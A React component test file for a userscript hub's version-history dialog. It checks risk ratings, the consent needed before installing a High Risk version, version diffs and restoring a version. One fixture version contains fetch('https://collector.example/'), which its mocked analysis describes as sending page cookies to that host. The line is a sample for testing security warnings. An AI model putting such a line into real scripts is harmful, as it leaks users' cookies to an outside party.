// @vitest-environment happy-dom

import { detailsRow } from "@scriptorium/hub-data/scripts/rows.test-support";
import type { ScriptDetails } from "@scriptorium/hub-data/scripts/script-details";
import { createTestHost, reader, Surroundings, visitor } from "@scriptorium/remote-kit/host.test-support";
import { cleanup, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
import { useLocation } from "react-router-dom";
import { afterEach, expect, it, vi } from "vitest";
import { leak, noCapabilities, reportRows } from "../../script-security/analysis.test-support.ts";
import type { Analysis } from "../../script-security/analysis.ts";
import { VersionHistory } from "./version-history.tsx";

afterEach(() => {
	cleanup();
	vi.restoreAllMocks();
});

const older = {
	id: "11111111-1111-4111-8111-111111111111",
	semver: "1.0.0",
	sha256: "a".repeat(64),
	code: "const words = 1;\nalert(words);\n",
	analysis: {
		...leak,
		risk_level: "green",
		score: 100,
		vulnerabilities: [],
		capabilities: noCapabilities,
	} as Analysis | null,
};
const newer = {
	...older,
	id: detailsRow.version_id,
	semver: "1.1.0",
	sha256: "b".repeat(64),
	code: "const words = 1;\nfetch('https://collector.example/');\n",
	analysis: leak as Analysis | null,
};

/** The database as it answers for the two versions; what was restored is written down. */
function database({ versions = [newer, older], broken = false } = {}) {
	const state = { broken, restored: [] as unknown[] };
	const fetch: typeof globalThis.fetch = async (input, init) => {
		const url = new URL(String(input));
		if (state.broken) return Response.json({ message: "down" }, { status: 503 });
		if (url.pathname.endsWith("/rpc/restore_version")) {
			state.restored.push(JSON.parse(String(init?.body)));
			return Response.json([{ id: detailsRow.id, version_id: older.id, semver: "1.2.0", moderation_status: "none" }]);
		}
		const select = url.searchParams.get("select") ?? "";
		const asked = versions.find(({ id }) => url.searchParams.get("id") === `eq.${id}`);
		if (select.includes("summary_json")) return Response.json(reportRows(asked?.analysis ?? null));
		if (select === "code_blob_url") return Response.json(asked ? [{ code_blob_url: asked.code }] : []);
		return Response.json(
			versions.map(({ id, semver, sha256, analysis }) => ({
				id,
				semver,
				sha256,
				published_at: detailsRow.published_at,
				change_note: `Note of ${semver}`,
				generated_by: "user",
				security_reports: analysis
					? [
							{
								risk_level: analysis.risk_level,
								score: analysis.score,
								rules_version: "1",
								created_at: detailsRow.created_at,
							},
						]
					: [],
			})),
		);
	};
	return { state, fetch };
}

function Address() {
	return <output>{useLocation().search}</output>;
}

function open(
	at: string,
	{ session = visitor, ...what }: Parameters<typeof database>[0] & { session?: typeof visitor } = {},
) {
	const { state, fetch } = database(what);
	const test = createTestHost(session, fetch);
	const script: ScriptDetails = {
		...detailsRow,
		tags: [...detailsRow.tags],
		owner_id: reader.user?.id ?? null,
		has_flow: false,
	};
	render(
		<Surroundings host={test.host} at={`/ada/table-to-csv${at}`}>
			<VersionHistory script={script} />
			<Address />
		</Surroundings>,
	);
	return { ...test, state };
}
const address = () => document.querySelector("output")?.textContent;

it("lists each version with its note, its own rating and its own file", async () => {
	open("");
	fireEvent.click(screen.getByRole("button", { name: "View version history" }));
	const dialog = await screen.findByRole("dialog", { name: "Version history" });
	const items = await within(dialog).findAllByRole("listitem");
	expect(items.map(({ textContent }) => textContent)).toEqual([
		expect.stringMatching(/1\.1\.0.*High Risk.*12 out of 100.*Note of 1\.1\.0/),
		expect.stringMatching(/1\.0\.0.*Low Risk.*100 out of 100.*Note of 1\.0\.0/),
	]);
	const install = within(dialog).getByRole("link", { name: "Install this version (1.0.0)" });
	expect(install.getAttribute("href")).toBe(`http://hub.test/v/${older.sha256}.user.js`);
	expect(within(dialog).queryByRole("button", { name: /^Restore/ })).toBeNull();
});

it("offers a High Risk version only after consent that names its worst finding", async () => {
	open("?versions");
	const dialog = await screen.findByRole("dialog", { name: "Version history" });
	const anyway = await within(dialog).findByRole("button", { name: "Install High Risk version 1.1.0 anyway" });
	expect(within(dialog).queryByRole("link", { name: "Install this version (1.1.0)" })).toBeNull();
	fireEvent.click(anyway);
	expect(anyway.getAttribute("aria-expanded")).toBe("true");
	const consent = await within(dialog).findByRole("checkbox", { name: /cookies are sent to collector\.example/ });
	expect(within(dialog).queryByRole("link", { name: "Install this version (1.1.0)" })).toBeNull();
	fireEvent.click(consent);
	const link = within(dialog).getByRole("link", { name: "Install this version (1.1.0)" });
	expect(link.getAttribute("href")).toBe(`http://hub.test/v/${newer.sha256}.user.js`);
	fireEvent.click(consent);
	expect(within(dialog).queryByRole("link", { name: "Install this version (1.1.0)" })).toBeNull();
});

it("compares two versions in words and lines, whichever is named first", async () => {
	open("?versions=1.1.0..1.0.0");
	await screen.findByText("Now contacts collector.example");
	expect(screen.getByText("Now reads or changes cookies: document.cookie")).toBeTruthy();
	expect(screen.getByText("Is no longer proven to work offline")).toBeTruthy();
	expect(screen.getByText("The page's cookies are sent to collector.example.")).toBeTruthy();
	expect(screen.getByText("1 line added, 1 line removed")).toBeTruthy();
});

it.each([
	["below each other", false, ["2−Removedalert(words);", "2+Addedfetch('https://collector.example/');"]],
	["beside each other", true, ["2−Removedalert(words);2+Addedfetch('https://collector.example/');"]],
] as const)("shows the lines %s, with what happened to each in words", async (_, wide, expected) => {
	const query = window.matchMedia("print");
	vi.spyOn(query, "matches", "get").mockReturnValue(wide);
	vi.spyOn(window, "matchMedia").mockReturnValue(query);
	open("?versions=1.0.0..1.1.0");
	const rows = within(await screen.findByRole("table")).getAllByRole("row");
	expect(rows.slice(2).map(({ textContent }) => textContent)).toEqual(expected);
});

it("leads from the list to a comparison, and closes to the page without it", async () => {
	open("?from=feed");
	fireEvent.click(screen.getByRole("button", { name: "View version history" }));
	fireEvent.click(await screen.findByRole("button", { name: "What changed in 1.1.0 since 1.0.0" }));
	await screen.findByRole("heading", { name: "What it can do" });
	expect(address()).toBe("?from=feed&versions=1.0.0..1.1.0");
	fireEvent.click(screen.getByRole("button", { name: "All versions" }));
	await screen.findByRole("button", { name: "What changed in 1.1.0 since 1.0.0" });
	expect(address()).toBe("?from=feed&versions=all");
	fireEvent.click(screen.getByRole("button", { name: "Close" }));
	await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
	expect(address()).toBe("?from=feed");
});

it("closes also what was opened by its address", async () => {
	open("?versions=1.0.0..1.1.0&from=feed");
	fireEvent.click(await screen.findByRole("button", { name: "All versions" }));
	fireEvent.click(screen.getByRole("button", { name: "Close" }));
	await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
	expect(address()).toBe("?from=feed");
});

it("says that nothing is new only when both analyses are there", async () => {
	open("?versions=1.0.0..1.1.0", { versions: [{ ...newer, analysis: older.analysis }, older] });
	await screen.findByText("The newer version can do nothing that the older one could not.");
	cleanup();
	open("?versions=1.0.0..1.1.0", { versions: [{ ...newer, analysis: null }, older] });
	await screen.findByText(/Version 1\.1\.0 is still being analyzed/);
	expect(screen.queryByText(/can do nothing/)).toBeNull();
	cleanup();
	const unrated = {
		...leak,
		risk_level: "unrated" as const,
		score: 0,
		vulnerabilities: [],
		capabilities: noCapabilities,
	};
	open("?versions=1.0.0..1.1.0", { versions: [{ ...newer, analysis: unrated }, older] });
	await screen.findByText(/Version 1\.1\.0 could not be rated/);
	expect(screen.queryByText(/can do nothing/)).toBeNull();
});

it("says that there is no such version", async () => {
	open("?versions=1.0.0..9.0.0");
	await screen.findByText("There is no such version");
	cleanup();
	open("?versions=1.0.0..1.0.0");
	await screen.findByText(/Choose two different versions/);
});

it("says that the versions could not be read, and reads them again", async () => {
	const { state } = open("?versions=all", { broken: true });
	await screen.findByText("The versions could not be read");
	state.broken = false;
	fireEvent.click(screen.getByRole("button", { name: "Try Again" }));
	await screen.findByRole("link", { name: "Install this version (1.0.0)" });
});

it("restores a version for its owner, after a question", async () => {
	const { state, notices } = open("?versions=all", { session: reader });
	fireEvent.click(await screen.findByRole("button", { name: "Restore this version (1.0.0)" }));
	expect(screen.queryByRole("button", { name: "Restore this version (1.1.0)" })).toBeNull();
	const question = await screen.findByRole("alertdialog", { name: "Restore version 1.0.0?" });
	expect(state.restored).toEqual([]);
	fireEvent.click(within(question).getByRole("button", { name: "Restore" }));
	await waitFor(() => expect(notices).toEqual(["success: Version 1.0.0 restored as 1.2.0"]));
	expect(state.restored).toEqual([{ p_version_id: older.id, p_base_version_id: newer.id }]);
	await waitFor(() => expect(screen.queryByRole("alertdialog")).toBeNull());
});
